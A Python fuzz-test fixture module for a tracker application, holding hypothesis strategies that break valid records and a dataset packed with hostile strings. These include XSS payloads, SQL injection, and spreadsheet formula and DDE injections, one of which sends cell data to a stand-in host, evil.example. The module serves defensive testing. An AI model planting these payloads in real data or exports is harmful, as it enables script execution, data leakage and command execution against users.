"""Hostile and malformed inputs for the fuzz tests: fixed nasty strings and hypothesis strategies.

``mutated(base)`` is the workhorse: it takes a valid record (a JSON-shaped dict) and breaks it
in one to three places (a value replaced by any JSON value, a key dropped or added, a list
turned into something else), so that most examples get past the first check and reach the
deeper ones. ``json_values`` alone gives documents of the wrong shape.
"""

from __future__ import annotations

import copy
import datetime as dt

from hypothesis import strategies as st

from tracker.models import Actor, Bundle, DeadlineRevision, Document, HistoryEntry, ItemLink, ItemRecord

#: Stored text that must come out as plain text everywhere (pages, CSV, JSON).
HOSTILE_TEXTS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "[click me](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(document.cookie))",
    "![pixel](javascript:alert(1))",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "'; DROP TABLE items; --",
    "{{7*7}} ${7*7} %s%n",
    "\u202eevil\u202c right-to-left override",
    ":red[colour] :material/home: **bold** `code` # heading",
    "$\\alpha$ and $$x$$",
]

#: Values that look like dates but are not valid ones (or are in the future).
DATE_LIKE = [
    "2020", "2020-13", "2020-02-30", "2021-02-29", "1899", "2201", "0000", "9999-12-31",
    "2020-1-1", "20201215", "2020-12-15T00:00:00", "today", "2999-01-01", "-2020", "２０２０",
]

#: Strings that break rules other than shape: size, control characters, encoding.
NASTY_STRINGS = [
    "", " ", "\n\n", "a\x00b", "line\x1bescape", "\x7f", "\ud800", "\udfff trailing surrogate",
    "x" * 2001, "y" * 5001, "z" * 20_000, "Zürich ＠ ０１２ ｊａｖａｓｃｒｉｐｔ:",
    "UPPER-Case-Slug", "slug with spaces", "-leading-hyphen", "a" * 81,
    "javascript:alert(1)", "http://", "https://exa mple.org", "ftp://example.org/x", "//example.org",
]

text_values = st.one_of(
    st.text(max_size=40),
    st.text(alphabet=st.characters(codec=None, exclude_categories=()), max_size=20),  # surrogates too
    st.sampled_from(HOSTILE_TEXTS),
    st.sampled_from(DATE_LIKE),
    st.sampled_from(NASTY_STRINGS),
)

json_scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    text_values,
)

json_values = st.recursive(
    json_scalars,
    lambda children: st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=8), children, max_size=4),
    max_leaves=10,
)

#: What a form or a Python caller might pass that JSON cannot carry.
python_values = st.one_of(
    json_values,
    st.binary(max_size=20),
    st.dates(),
    st.datetimes(),
    st.timedeltas(),
    st.sets(st.integers(), max_size=3),
    st.tuples(st.text(max_size=5)),
    st.builds(object),
)


def _slots(doc):
    """Every (container, key) place in a JSON document."""
    stack = [doc]
    while stack:
        node = stack.pop()
        if isinstance(node, dict):
            for key, value in node.items():
                yield node, key
                stack.append(value)
        elif isinstance(node, list):
            for index, value in enumerate(node):
                yield node, index
                stack.append(value)


@st.composite
def mutated(draw, base, values=json_values, max_mutations: int = 3):
    """``base`` broken in one to ``max_mutations`` places (sometimes replaced wholesale)."""
    if draw(st.integers(0, 19)) == 0:
        return draw(values)  # the wrong shape altogether
    doc = copy.deepcopy(base)
    for _ in range(draw(st.integers(1, max_mutations))):
        slots = list(_slots(doc))
        if not slots:
            break
        container, key = slots[draw(st.integers(0, len(slots) - 1))]
        action = draw(st.sampled_from(["replace", "replace", "replace", "drop", "add", "retype"]))
        if action == "replace":
            container[key] = draw(values)
        elif action == "drop":
            del container[key]
        elif action == "add" and isinstance(container, dict):
            container[draw(st.text(min_size=1, max_size=10))] = draw(values)
        elif action == "retype":
            value = container[key]
            container[key] = ([value] if not isinstance(value, list)
                              else {str(n): v for n, v in enumerate(value)})
    return doc


def today() -> str:
    return dt.date.today().isoformat()


# ---------------------------------------------------------------------------
# A dataset with hostile text in every stored text field

IMG = "<img src=x onerror=alert(1)>"
SCRIPT = "<script>alert(2)</script>"
MD_LINK = "[click me](javascript:alert(3))"
FORMULA = '=HYPERLINK("http://evil.example","x")'
A_TAG = '<a href="javascript:alert(4)">link</a>'
DIRECTIVES = ":red[red] **bold** $x$ :material/home:"


def hostile_bundle() -> Bundle:
    return Bundle(
        actors=[
            Actor(id="evil-office", name=f"{IMG} Office", kind="government department", description=SCRIPT),
            Actor(id="evil-inspectorate", name=f"{MD_LINK} Inspectorate", kind="inspectorate"),
        ],
        documents=[
            Document(id="evil-report", title=f"{MD_LINK} report", publisher=SCRIPT, kind="inspection report",
                     published="2022-03-01", url="https://example.org/?q=<svg/onload=alert(5)>"),
        ],
        items=[
            ItemRecord(
                id="evil-commitment", kind="commitment", title=f"{IMG} pledged", quote=f"{MD_LINK} and {FORMULA}",
                document_id="evil-report", makers=["evil-office"], owners=["evil-office"],
                themes=["<b>bold</b> theme"], made="2022-03-01", done_when=A_TAG,
                deadline_revisions=[DeadlineRevision(deadline="2022-12", reason=IMG, revised_on="2022-03-01"),
                                    DeadlineRevision(deadline="2023-06", reason=DIRECTIVES, revised_on="2022-11-01")],
                history=[HistoryEntry(status="in progress", evidence=f"{FORMULA} {MD_LINK}",
                                      evidence_url='https://example.org/"><img/src=x/onerror=alert(7)>',
                                      assessed_on="2022-06-01", recorded_by=f"{IMG}")],
            ),
            ItemRecord(
                id="evil-recommendation", kind="recommendation", title=f"{SCRIPT} recommended", quote=A_TAG,
                document_id="evil-report", makers=["evil-inspectorate"], owners=["evil-office"],
                themes=["<b>bold</b> theme"], made="2022-03-01", deadline="2023",
                history=[HistoryEntry(response="awaiting response", implementation="not started",
                                      evidence=DIRECTIVES, assessed_on="2022-03-01")],
                links=[ItemLink(kind="repeats", target_id="evil-commitment", note=SCRIPT)],
            ),
            ItemRecord(
                id="evil-finding", kind="finding", title=f"{A_TAG} found", quote=IMG, document_id="evil-report",
                makers=["evil-inspectorate"], themes=["<b>bold</b> theme"], made="2022-03-01",
                links=[ItemLink(kind="contradicts", target_id="evil-commitment", note=MD_LINK)],
            ),
            ItemRecord(  # every text a spreadsheet would run as a formula
                id="evil-call", kind="call", title=FORMULA, quote="+1+1 and @SUM(1,1)", document_id="evil-report",
                makers=["evil-inspectorate"], owners=["evil-office"], themes=["=formula theme"], made="2022-03-01",
                done_when="@cmd|' /C calc'!A0",
                history=[HistoryEntry(status="stalled", evidence="-2+3 =cmd|' /C calc'!A0", assessed_on="2022-04-01",
                                      evidence_url="https://example.org/=1+1")],
            ),
        ],
    )
